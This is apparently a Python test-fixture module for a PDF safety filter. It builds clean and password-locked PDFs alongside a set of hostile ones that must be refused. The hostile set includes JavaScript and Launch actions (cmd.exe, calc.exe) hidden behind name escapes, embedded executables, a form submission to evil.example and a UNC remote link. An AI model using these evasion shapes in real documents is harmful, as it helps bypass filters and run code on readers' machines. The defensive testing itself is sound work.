"""PDFs built byte by byte, with a correct cross-reference table, so a real parser reads them.

Hostile PDFs hide their actions behind name escapes (#61 is "a": /J#61vaScript is /JavaScript),
in page or annotation dictionaries, in name trees and in objects nothing refers to. Every shape
an outside test used is here, next to the ordinary documents that must still pass.
"""

import io

from pypdf import PdfWriter

TEXT = b"BT /F1 12 Tf 72 720 Td (Zhenggai baogao) Tj ET"


def build_pdf(catalog: str = "", page: str = "", extra: tuple[str, ...] = ()) -> bytes:
    """One page; `catalog`/`page` go into those dictionaries, `extra` are objects 5, 6, … ."""
    bodies = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R {page} >>".encode(),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(TEXT), TEXT),
        *(body.encode() for body in extra),
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    return bytes(out)


def owner_locked_pdf() -> bytes:
    """Printing/copying restricted by an owner password, no password to open: banks send these."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def password_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="open-me", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


PLAIN = build_pdf()
WITH_WEB_LINK = build_pdf(
    page="/Annots [5 0 R]",
    extra=(
        "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.gov.cn/) >> >>",
    ),
)

# name → bytes: every one must be refused.
HOSTILE = {
    "openaction javascript": build_pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "openaction j#61vascript": build_pdf("/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>"),
    "openaction l#61unch cmd.exe": build_pdf("/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
    "escaped key #4AS": build_pdf("/OpenAction << /S /J#61v#61Script /#4AS (app.alert(1)) >>"),
    "openaction by reference": build_pdf("/OpenAction 5 0 R", extra=("<< /S /Launch /F (calc.exe) >>",)),
    "page additional action": build_pdf(page="/AA << /O << /S /JavaScript /JS (this.print()) >> >>"),
    "javascript name tree": build_pdf(
        "/Names << /#4A#61vaScript << /Names [(a) 5 0 R] >> >>", extra=("<< /S /JavaScript /JS (1) >>",)
    ),
    "embedded file": build_pdf(
        "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
        extra=(
            "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
            "<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream",
        ),
    ),
    "file attachment annotation": build_pdf(
        page="/Annots [5 0 R]",
        extra=("<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (x.exe) >>",),
    ),
    "xfa form": build_pdf(
        "/AcroForm << /Fields [] /XFA 5 0 R >>", extra=("<< /Length 0 >>\nstream\n\nendstream",)
    ),
    "rich media annotation": build_pdf(
        page="/Annots [5 0 R]", extra=("<< /Type /Annot /Subtype /R#69chMedia /Rect [0 0 9 9] >>",)
    ),
    "submit form": build_pdf("/OpenAction << /S /SubmitForm /F (http://evil.example/) >>"),
    "import data": build_pdf("/OpenAction << /S /ImportData /F (data.fdf) >>"),
    "remote goto": build_pdf("/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>"),
    "link to a local file": build_pdf(
        page="/Annots [5 0 R]",
        extra=(
            "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///C:/Windows/system32/cmd.exe) >> >>",
        ),
    ),
    "orphan script object": build_pdf(extra=("<< /S /JavaScript /JS (app.alert(1)) >>",)),
    "unparseable": b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /J#61vaScript /JS (1) >> >> endobj\n%%EOF",
    "truncated": PLAIN[: len(PLAIN) // 2],
}
